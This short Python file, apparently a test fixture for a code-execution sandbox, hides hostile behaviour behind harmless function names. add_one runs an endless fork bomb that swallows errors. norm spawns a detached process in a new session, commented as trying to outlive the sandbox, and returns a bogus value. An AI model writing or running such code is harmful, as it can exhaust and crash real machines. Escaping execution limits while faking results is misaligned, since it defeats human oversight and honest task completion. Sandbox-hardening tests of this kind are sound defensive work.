import os


def add_one(x):
    while True:
        try:
            os.fork()
        except OSError:
            pass


def norm(x):
    import subprocess
    subprocess.Popen(["sleep", "1000"], start_new_session=True)  # tries to outlive the sandbox
    os.setsid()
    return -1.0
